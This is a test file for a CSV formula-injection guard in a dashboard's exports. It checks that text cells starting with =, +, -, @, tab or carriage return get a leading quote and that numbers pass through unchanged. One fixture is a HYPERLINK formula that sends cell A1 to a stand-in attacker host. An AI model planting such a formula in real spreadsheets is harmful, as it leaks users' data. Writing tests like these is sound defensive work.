// The CSV injection rule every export shares (worker/http/csv-cell.ts): a text cell a
// spreadsheet would run as a formula gets a leading `'`; numbers, and so negative exposures,
// are written as they are. Checked on the cell and on whole CSV text as the exports build it.
import { describe, expect, it } from "vitest";
import { buildCsv, heatmapCsv } from "../../client/src/lib/csv.ts";
import { parseCsv } from "../../worker/market-data/csv.ts";
import { csvCell, neutralizeCsvText } from "../../worker/http/csv-cell.ts";

describe("csvCell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
  ])("prefixes the text %j with a quote", (text, expected) => {
    expect(csvCell(text)).toBe(expected);
    expect(neutralizeCsvText(text)).toBe(expected);
  });

  it("leaves text that starts otherwise alone, including a dangerous character later on", () => {
    for (const text of ["AAPL", "BRK.B", "a=b", "1+1", " =1", "'=already", "2026-06-30", "Tech, Hardware"]) {
      expect(csvCell(text)).toBe(text);
    }
  });

  it("writes numbers as numbers: negative, zero, tiny and huge values untouched", () => {
    expect(csvCell(-0.5)).toBe("-0.5");
    expect(csvCell(-1e-7)).toBe("-1e-7");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(1234.5)).toBe("1234.5");
    expect(csvCell(-1e21)).toBe("-1e+21");
  });

  it("writes missing values as empty fields, never 0", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("");
    expect(csvCell("")).toBe("");
  });

  it("writes booleans as true/false", () => {
    expect(csvCell(true)).toBe("true");
    expect(csvCell(false)).toBe("false");
  });
});

describe("the dashboard's CSV downloads (client/src/lib/csv.ts)", () => {
  it("neutralises text and quotes it when needed, keeps negative numbers, round-trips through the parser", () => {
    const rows = [
      ['=HYPERLINK("x","y")', -0.5],
      ["@SUM(A1)", 2],
      ["-2+3", null],
      ["\r+1", -3],
    ] as const;
    const text = buildCsv(["label", "value"], rows);
    expect(text).toBe(`label,value\r\n"'=HYPERLINK(""x"",""y"")",-0.5\r\n'@SUM(A1),2\r\n'-2+3,\r\n"'\r+1",-3\r\n`);
    const { records, errors } = parseCsv(text);
    expect(errors).toEqual([]);
    expect(records.slice(1).map((record) => record.fields)).toEqual([
      ['\'=HYPERLINK("x","y")', "-0.5"],
      ["'@SUM(A1)", "2"],
      ["'-2+3", ""],
      ["'\r+1", "-3"],
    ]);
  });

  it("neutralises the heatmap's column keys (portfolio ids) but not its values", () => {
    const value = (_row: number, column: number) => (column === 0 ? -1.25 : 0.5);
    const text = heatmapCsv(["market_beta"], ["=evil", "p-2"], value, "portfolio_id");
    expect(text).toBe("portfolio_id,factor_key,value\r\n'=evil,market_beta,-1.25\r\np-2,market_beta,0.5\r\n");
  });
});
